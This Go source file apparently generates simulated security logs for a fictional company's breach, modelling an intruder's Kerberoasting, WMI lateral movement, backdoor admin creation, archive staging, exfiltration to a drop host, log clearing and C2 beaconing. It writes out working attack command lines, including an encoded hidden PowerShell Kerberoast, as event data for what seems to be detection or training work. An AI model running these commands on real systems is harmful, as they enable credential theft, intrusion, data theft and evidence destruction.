package sample

// Kerberoasting: tickets with the old cipher for every service account, within
// a quarter of a minute.
func (x *intruder) roast() {
	at := x.ago(2, 4, 20, 0)
	script := `Add-Type -AssemblyName System.IdentityModel;([adsisearcher]'(&(servicePrincipalName=*)(objectCategory=user))').FindAll()|%{New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $_.Properties['serviceprincipalname'][0]}`
	x.spawn(x.r, x.loader, at, powershell, `powershell.exe -nop -w hidden -enc `+encoded(script))
	for i, name := range []string{"svc-sqlreport", "svc-backup", "svc-scan", "svc-deploy", "svc-monitor", "svc-labview", "svc-crm", "svc-adsync"} {
		x.event4769(x.r, x.co.dc1, &x.victim.account, name, x.desk.ip, at+3*second+tick(i)*1700*milli, "0x17")
	}
}

// database uses the cracked password of a service account over WMI.
func (x *intruder) database() {
	sql, at, who := x.co.sql, x.ago(1, 9, 12, 0), x.co.service["svc-sqlreport"]
	line := `wmic /node:NV-SQL01 /user:NORVALE\svc-sqlreport /password:Autumn-Harvest-77 process call create "cmd.exe /c sqlcmd -E -Q \"select name from sys.databases\" > C:\Windows\Temp\o.txt"`
	p := x.spawn(x.r, x.elevated, at, sys(`wbem\WMIC.exe`), line)
	x.explicit(x.elevated.s, p, who, sql, at+80*milli)
	x.connect(x.r, p, at+100*milli, conn{domain: sql.fqdn, ip: sql.ip, port: 135, sent: 3100, recv: 2800, full: true})
	s := x.logon(x.r, sql, who, x.desk, at+160*milli, how{kind: 3, ntlm: true, admin: true})
	wmi := x.spawnAs(x.r, sql.roots.dcom, &session{host: sql, who: &x.co.network, id: 0x3e4, kind: 5, at: at}, at+400*milli, sys(`wbem\WmiPrvSE.exe`), sys(`wbem\wmiprvse.exe`)+" -secured -Embedding", true)
	cmd := x.spawnAs(x.r, wmi, s, at+900*milli, sys("cmd.exe"), `cmd.exe /c sqlcmd -E -Q "select name from sys.databases" > C:\Windows\Temp\o.txt`, true)
	x.spawn(x.r, cmd, at+960*milli, `C:\Program Files\Microsoft SQL Server\Client SDK\ODBC\170\Tools\Binn\SQLCMD.EXE`, `sqlcmd -E -Q "select name from sys.databases"`)
	x.fileEvent(cmd, at+2*second, "FileCreated", `C:\Windows\Temp\o.txt`, 412, "")
	x.logoff(s, at+3*minute)
}

// remoteDesktop goes over the jump host to the file server and makes an
// administrator there.
func (x *intruder) remoteDesktop() {
	jump, fs := x.co.jump, x.co.files
	at := x.ago(1, 7, 45, 0)
	x.connect(x.r, x.elevated, at-second, conn{domain: jump.fqdn, ip: jump.ip, port: 3389, sent: 1_840_000, recv: 22_600_000, full: true, length: 90 * minute})
	s := x.logon(x.r, jump, x.helpdesk, x.desk, at, how{kind: 10, admin: true})
	x.onJump = x.desktop(jump, s, at)
	x.spawn(x.r, x.onJump, at+4*minute, sys("net.exe"), `net group "Server operators" /domain`)
	at = x.ago(1, 6, 58, 0)
	rdp := x.spawn(x.r, x.onJump, at-20*second, sys("mstsc.exe"), `mstsc.exe /v:NV-FS01`)
	x.explicit(s, rdp, x.helpdesk, fs, at-10*second)
	x.connect(x.r, rdp, at-9*second, conn{domain: fs.fqdn, ip: fs.ip, port: 3389, sent: 2_100_000, recv: 30_400_000, full: true})
	f := x.logon(x.r, fs, x.helpdesk, jump, at, how{kind: 10, admin: true})
	x.onFiles = x.desktop(fs, f, at)
	x.addedAdmin = &account{name: "helpdesk_svc", domain: fs.name, sid: "S-1-5-21-1673849921-2093844112-884011927-1009"}
	add := x.spawn(x.r, x.onFiles, at+2*minute, sys("net.exe"), `net user helpdesk_svc Wint3r-Storage! /add`)
	x.spawn(x.r, add, at+2*minute+40*milli, sys("net1.exe"), sys("net1")+` user helpdesk_svc Wint3r-Storage! /add`)
	for i, id := range []int{4720, 4722} {
		x.sec(fs, at+2*minute+tick(90+i*10)*milli, id, f.who).subject(f).s("TargetAccount", x.addedAdmin.full()).s("TargetUserName", "helpdesk_svc").s("TargetDomainName", fs.name).s("TargetSid", x.addedAdmin.sid).
			s("SamAccountName", "helpdesk_svc").end()
	}
	grp := x.spawn(x.r, x.onFiles, at+2*minute+20*second, sys("net.exe"), `net localgroup Administrators helpdesk_svc /add`)
	x.spawn(x.r, grp, at+2*minute+20*second+40*milli, sys("net1.exe"), sys("net1")+` localgroup Administrators helpdesk_svc /add`)
	x.sec(fs, at+2*minute+20*second+90*milli, 4732, f.who).subject(f).s("MemberName", "-").s("MemberSid", x.addedAdmin.sid).s("TargetAccount", `Builtin\Administrators`).s("TargetUserName", "Administrators").
		s("TargetDomainName", "Builtin").s("TargetSid", "S-1-5-32-544").end()
	x.logoff(f, x.ago(1, 6, 31, 0))
}

// desktop opens explorer and a command line in a session.
func (x *intruder) desktop(h *host, s *session, at tick) *proc {
	init := x.spawnAs(x.r, h.roots.winlogon, s, at+500*milli, sys("userinit.exe"), sys("userinit.exe"), true)
	ex := x.spawn(x.r, init, at+900*milli, explorer, explorer)
	return x.spawn(x.r, ex, at+70*second, sys("cmd.exe"), `"C:\Windows\System32\cmd.exe"`)
}

const parts = 12

// stage packs the files with the new account.
func (x *intruder) stage() {
	fs, at := x.co.files, x.ago(1, 4, 30, 0)
	s := x.logon(x.r, fs, x.addedAdmin, x.co.jump, at, how{kind: 10, admin: true})
	sh := x.desktop(fs, s, at)
	x.fileEvent(sh, at+15*minute, "FileCreated", rarPath, 630_736, "")
	at = x.ago(1, 4, 10, 0)
	rar := x.spawn(x.r, sh, at, rarPath, rarPath+` a -r -m5 -v250m -hpK3ep-0ut C:\ProgramData\pkg\q3.rar D:\Shares\Finance D:\Shares\Engineering\Firmware`)
	for i := range parts {
		x.fileEvent(rar, at+tick(i+1)*7*minute+x.r.span(2*minute), "FileCreated", partName(i), 262_144_000, "")
	}
	x.logoff(s, x.ago(1, 2, 20, 0))
}

func partName(i int) string { return `C:\ProgramData\pkg\q3.part` + two(i+1) + `.rar` }

func two(n int) string {
	if n < 10 {
		return "0" + itoa(n)
	}
	return itoa(n)
}

// exfiltrate sends the parts from the implant to a place of its own.
func (x *intruder) exfiltrate() {
	at := x.ago(0, 22, 38, 0)
	for i := range parts {
		x.connect(x.r, x.implant, at+x.r.span(90*second), conn{
			domain: dropDomain, ip: dropIP, port: 443, sent: 262_144_000 + int64(x.r.between(300_000, 700_000)), recv: int64(x.r.between(40_000, 90_000)), length: tick(x.r.between(300, 420)) * second,
			url: "https://" + dropDomain + "/b/q3.part" + two(i+1) + ".rar", method: "PUT", agent: "curl/8.4.0", category: "File Host", full: true, country: "Unknown",
		})
		at += 11 * minute
	}
}

func (x *intruder) cover() {
	jump, at := x.co.jump, x.ago(0, 20, 20, 0)
	del := x.spawn(x.r, x.implant, at, sys("cmd.exe"), `cmd.exe /c del /q C:\ProgramData\pkg\*.rar`)
	for i := range parts {
		x.fileEvent(del, at+second+tick(i)*40*milli, "FileDeleted", partName(i), 262_144_000, "")
	}
	clear := x.spawn(x.r, x.onJump, x.ago(0, 20, 6, 10), sys("wevtutil.exe"), `wevtutil.exe cl Security`)
	s := clear.s
	x.sec(jump, x.ago(0, 20, 6, 9), 1102, s.who).subject(s).end()
	x.logoff(s, x.ago(0, 20, 4, 0))
}

// beacon is one call home.
func (x *intruder) beacon(p *proc, at tick, ip string, recv int64) {
	x.connect(x.r, p, at, conn{
		domain: c2Domain, ip: ip, port: 443, sent: int64(x.r.between(380, 520)), recv: recv, length: second, url: "https://" + c2Domain + "/api/v2/metrics", method: "POST", agent: c2Agent, category: "Newly Registered Domains", full: true,
	})
}

// beacons calls home from both hosts until the end: every five minutes from the
// desk, every fifteen from the server, both a quarter of it sooner or later.
func (x *intruder) beacons() {
	end := x.ago(0, 20, 3, 0)
	for at := x.loader.at + 20*second; at < end; at += 225*second + x.r.span(150*second) {
		recv := int64(x.r.between(180, 260))
		if x.r.chance(4) {
			recv = int64(x.r.between(3_000, 40_000)) // an order
		}
		x.beacon(x.loader, at, c2IP, recv)
	}
	for at := x.implant.at + 10*second; at < end; at += 675*second + x.r.span(450*second) {
		x.beacon(x.implant, at, c2IP2, int64(x.r.between(180, 260)))
	}
}
